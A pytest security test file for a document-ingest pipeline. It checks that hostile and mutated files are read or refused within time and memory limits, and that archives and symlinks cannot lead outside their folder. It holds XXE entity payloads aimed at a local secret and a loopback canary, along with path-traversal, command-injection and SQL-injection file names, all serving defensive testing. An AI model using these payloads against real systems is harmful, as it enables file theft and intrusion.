"""Hostile and damaged files (S1 to S4): each ends in time and memory, with its reason, and reads nothing outside."""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ingest.readers.html.feed import read_listing
from ingest.readers.isolate import IsolatedReader
from ingest.readers.signatures import DOCX, EPUB, HTML, MARKDOWN, PDF, media_type_of
from ingest.sources.sources import SourceFailure, SourceFile, find_sources
from ingest.text.prepare import prepare
from kb.records.errors import SourceError
from kb.records.file_format import FileFormat
from tests.ingest import hostile

ROOT = Path(__file__).parents[2]
SAMPLES = ROOT / "samples" / "articles"
_MAX_SECONDS, _MAX_MEGABYTES = 20, 512
# Files of S1 that do hold a few letters: what is in them may be read.
_HOLDS_TEXT = {
    "PDF page wider than the world",
    "RTF without an end of a number",
    "MSG of packed rich text that looks back for ever",
    "MSG whose sectors lead in a ring",
    "MSG of one huge table of sectors",
    "VTT of one endless tag",
}


@pytest.fixture(scope="module")
def reader() -> Iterator[IsolatedReader]:
    with IsolatedReader() as isolated:
        yield isolated


def judged(full: bool) -> list[dict[str, object]]:
    """What the set says in a process of its own, so that its memory is measured."""
    command = [sys.executable, "-m", "tests.ingest.hostile", "full" if full else "quick"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True, timeout=1200)
    return [json.loads(line) for line in done.stdout.splitlines()]


@pytest.mark.parametrize(
    "full", [False, pytest.param(True, marks=[pytest.mark.slow, pytest.mark.timeout(1200)])], ids=["quick", "full"]
)
def test_every_hostile_file_ends_in_time_and_memory_with_its_reason(
    full: bool, record_property: Callable[[str, object], None]
) -> None:
    """S1: 20 s and 512 MB each; none is a success without text."""
    *files, peak = judged(full)
    record_property("tried", len(files))

    late = [file for file in files if float(str(file["seconds"])) >= _MAX_SECONDS]
    silent = [file for file in files if not file["chars"] and not (file["reason"] and file["hint"])]
    read = {file["label"] for file in files if file["chars"]}
    assert len(files) == len(hostile.hostile_files(full=full))
    assert len(hostile.hostile_files(full=True)) >= 60
    assert (late, silent) == ([], [])
    assert full or read == _HOLDS_TEXT
    assert int(str(peak["peak_megabytes"])) <= _MAX_MEGABYTES


def real_files() -> list[tuple[str, bytes]]:
    """The samples, which have every format, and a book."""
    chapter = b"<html><body><h1>Uno</h1><p>Un libro de un solo cap\xc3\xadtulo, para probar.</p></body></html>"
    files = [(path.name, path.read_bytes()) for path in sorted(SAMPLES.iterdir())]
    return [*files, ("book.epub", hostile.book(chapter)), *hostile.newer_files()]


def mutated(data: bytes, chance: random.Random) -> bytes:
    """The file with a few bytes changed, a piece cut out, doubled, moved or overwritten."""
    changed = bytearray(data)
    for _ in range(chance.choice((1, 1, 3, 20))):
        start = chance.randrange(len(changed)) if changed else 0
        size = chance.choice((1, 1, 4, 64, 1000))
        kind = chance.randrange(5)
        if kind == 0:
            changed[start : start + 1] = bytes([chance.randrange(256)])
        elif kind == 1:
            del changed[start : start + size]
        elif kind == 2:
            changed[start:start] = changed[start : start + size]
        elif kind == 3:
            changed[start : start + size] = chance.randbytes(size)
        else:
            del changed[start if chance.random() < 0.3 else len(changed) :]
    return bytes(changed)


@pytest.mark.parametrize(
    "number", [300, pytest.param(2000, marks=[pytest.mark.slow, pytest.mark.timeout(1800)])], ids=["quick", "full"]
)
def test_a_damaged_file_is_read_or_refused_and_never_read_as_nothing(
    reader: IsolatedReader, number: int, record_property: Callable[[str, object], None]
) -> None:
    """S2: every mutation of a real file gives text or a reason; never success without a letter."""
    chance, files = random.Random(20261121), real_files()  # noqa: S311 - a seeded test
    read = refused = 0
    wrong = []
    for turn in range(number):
        name, original = files[turn % len(files)]
        data = mutated(original, chance)
        try:
            source = SourceFile.of(name, data, media_type_of(name, data))
            prepared = prepare(source, read=reader.read)
        except SourceError as error:
            refused += 1
            if not (error.reason and error.hint) or "cannot be read (" in error.reason:
                wrong.append((turn, name, error.reason))
            continue
        read += 1
        if not prepared.passages or not any(map(str.isalnum, prepared.document.text)):
            wrong.append((turn, name, "read as nothing"))

    record_property("tried", number)
    assert wrong == []
    assert (read + refused, read > number / 4, refused > number / 20) == (number, True, True)


@contextlib.contextmanager
def canary() -> Iterator[tuple[int, list[str]]]:
    """A loopback server that notes who calls; its port and the calls."""
    calls: list[str] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.05)
    done = threading.Event()

    def listen() -> None:
        while not done.is_set():
            with contextlib.suppress(TimeoutError):
                connection, caller = server.accept()
                calls.append(str(caller))
                connection.close()

    thread = threading.Thread(target=listen)
    thread.start()
    try:
        yield server.getsockname()[1], calls
    finally:
        done.set()
        thread.join()
        server.close()


SECRET = "what-stands-in-a-file-of-this-machine"  # noqa: S105 - no password


def outside_entities(secret: Path, port: int) -> list[tuple[str, bytes]]:
    """Twelve document type declarations that reach outside, with what uses them in ``&x;``."""
    file, net = secret.as_uri(), f"http://127.0.0.1:{port}/"
    declarations = [
        f'<!DOCTYPE x [<!ENTITY x SYSTEM "{file}">]>',
        f'<!DOCTYPE x [<!ENTITY x SYSTEM "{net}">]>',
        f'<!DOCTYPE x [<!ENTITY x PUBLIC "-//X//Y" "{net}">]>',
        f'<!DOCTYPE x SYSTEM "{net}x.dtd">',
        f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{net}x.dtd">',
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{net}p.dtd"> %p;]>',
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{file}"><!ENTITY % q "<!ENTITY x SYSTEM \'{net}?%p;\'>">%q;]>',
        f'<!DOCTYPE x SYSTEM "{net}x.dtd" [<!ENTITY x SYSTEM "{file}">]>',
        f'<?xml-stylesheet href="{net}s.xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY x SYSTEM "{secret}">]>',
        f'<!DOCTYPE x [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={secret}">]>',
        f'<!DOCTYPE x [<!NOTATION n SYSTEM "{net}n"><!ENTITY x SYSTEM "{net}u" NDATA n>]>',
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "{file}"><!ENTITY x "&a;">]>',
    ]
    return [(f"payload {number}", text.encode()) for number, text in enumerate(declarations)]


def test_no_entity_reads_a_file_or_calls_home(
    tmp_path: Path, reader: IsolatedReader, record_property: Callable[[str, object], None]
) -> None:
    """S3: twelve payloads through every reader of markup; no byte of the secret, no call."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    seen, tried = [], 0
    with canary() as (port, calls):
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{secret.as_uri()}"/>'
        for label, head in outside_entities(secret, port):
            inner = b"<p>Un texto visible &x; con su final.</p>" + include.encode()
            page = head + b"<html><head><base href='http://127.0.0.1:%d/'></head><body>%s</body></html>" % (port, inner)
            body = b"<w:p><w:r><w:t>Un texto visible &x; con su final.</w:t></w:r></w:p>"
            link = b'<i:include href="%s"/>' % secret.as_uri().encode()
            package = head + b'<package><m><item id="a" href="a.xhtml"/></m><s><itemref idref="a"/></s>&x;</package>'
            files = [
                (HTML, page),
                (DOCX, hostile.word(body + link, head)),
                (EPUB, hostile.book(page)),
                (EPUB, hostile.book(page, package)),
                (MARKDOWN, page),
                (FileFormat.PPTX.media_type, hostile.deck(head + b"<a>&x;" + include.encode() + b"</a>")),
            ]
            tried += len(files)
            for media_type, data in files:
                with contextlib.suppress(SourceError):
                    extract = reader.read(data, media_type, label)
                    seen.append(repr(extract))
            with pytest.raises(SourceError, match="DTD"):
                read_listing(head + b"<urlset><url><loc>&x;</loc></url></urlset>", "http://example.org/")

    record_property("tried", tried)
    assert len(seen) >= 12
    assert [text for text in seen if SECRET in text] == []
    assert calls == []


_STEMS = (
    *("../x", "../../x", "a/../../x", "/x", "//x", "/etc/x", "~/x", "./../x", "..", "a/..", "...//x", "....//x"),
    *(
        "..\\x",
        "..\\..\\x",
        "a\\..\\..\\x",
        "C:\\x",
        "C:x",
        "c:/x",
        "\\\\host\\x",
        "\\x",
        "file:///x",
        "a/../b/../../x",
    ),
    *("x\0", "x\0.txt", "\0", "a\0/../x", "%2e%2e/x", "..%2fx", "%2e%2e%2fx", "..%c0%afx", "..%00/x", "\u2024/x"),
    *("．．/x", "..／x", "..\u2215x", "x\n", "x\r\ny", "-rf", "--help", "$(id)", "`id`", "|id", ";id", "&x", "*", "?"),
    *("a\0b", "\0\0x", "../\0", "/\0", "..//x", "a//..//..//x"),
    *("CON", "NUL.txt", "aux", "a" * 300, "a/" * 200 + "x", " ", ".", "./x", "x/", "\u202etxt.exe", "ñ", "n\u0303"),
    *(
        "..;/x",
        "..../x",
        "/..",
        "/../x",
        "/./x",
        "a/./../../x",
        "../x/",
        "proc/self/environ",
        "/dev/stdin",
        "/proc/1/mem",
    ),
    *(
        "\x1b[31mx",
        "<b>x",
        "'x",
        '"x',
        "x'; DROP TABLE documents",
        "{x}",
        "%s%n",
        "a/b/../../../x",
        "\\..\\x",
        "..\\/x",
    ),
)
NAMES = tuple(dict.fromkeys(stem if stem.endswith((".txt", ".exe")) else f"{stem}.txt" for stem in _STEMS))


def everything_below(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def test_no_name_in_an_archive_leads_out_of_it(tmp_path: Path, record_property: Callable[[str, object], None]) -> None:
    """S4: eighty names; every one is read under the archive's own name or named as what it is; nothing is written."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name in NAMES:
            info = zipfile.ZipInfo("x")
            info.filename = name
            archive.writestr(info, "Un texto cualquiera que se puede leer.")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.zip").write_bytes(stream.getvalue())
    before = everything_below(tmp_path)

    found = list(find_sources([tmp_path / "in"]))

    record_property("tried", len(NAMES))
    assert len(NAMES) >= 80
    assert len(found) == len(NAMES) + 1
    assert all(one.source_id.startswith("in/a.zip/") for one in found)
    assert [one.source_id for one in found if isinstance(one, SourceFile) and ".." in one.source_id.split("/")] == []
    assert [one.source_id for one in found if isinstance(one, SourceFile) and "\0" in one.source_id] == []
    assert [one.data for one in found if isinstance(one, SourceFile) and b"root:" in one.data] == []
    assert everything_below(tmp_path) == before


def test_no_file_in_a_folder_leads_out_of_it_or_holds_the_run(tmp_path: Path) -> None:
    """S4: links out, links in a ring, links to folders, pipes and sockets are named and not followed."""
    folder, outside = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    (folder / "file.txt").symlink_to(outside / "secret.txt")
    (folder / "folder").symlink_to(outside)
    (folder / "ring.txt").symlink_to(folder / "ring.txt")
    (folder / "up.txt").symlink_to("../out/secret.txt")
    (folder / "device.txt").symlink_to("/dev/zero")
    (folder / "process.txt").symlink_to("/proc/self/environ")
    os.mkfifo(folder / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(folder / "socket.txt"))
        found = list(find_sources([folder]))

    assert [one.source_id for one in found if isinstance(one, SourceFile)] == []
    assert {one.source_id: one.reason for one in found if isinstance(one, SourceFailure)} == {
        "in/device.txt": "is a link that leads out of the folder",
        "in/file.txt": "is a link that leads out of the folder",
        "in/folder": "is a link that leads out of the folder",
        "in/pipe.txt": "is not a regular file",
        "in/process.txt": "is a link that leads out of the folder",
        "in/ring.txt": "is a link in a ring of links",
        "in/socket.txt": "is not a regular file",
        "in/up.txt": "is a link that leads out of the folder",
    }


def test_a_pdf_that_was_made_by_hand_is_read() -> None:
    """The maker of hostile PDFs makes sound ones too: what the set refuses, it refuses for its content."""
    data = hostile.page_pdf(hostile.stream(b"BT /F 12 Tf 50 700 Td (Una linea que se lee bien.) Tj ET"))

    with IsolatedReader() as isolated:
        assert [block.text for block in isolated.read(data, PDF, "a.pdf").blocks] == ["Una linea que se lee bien."]
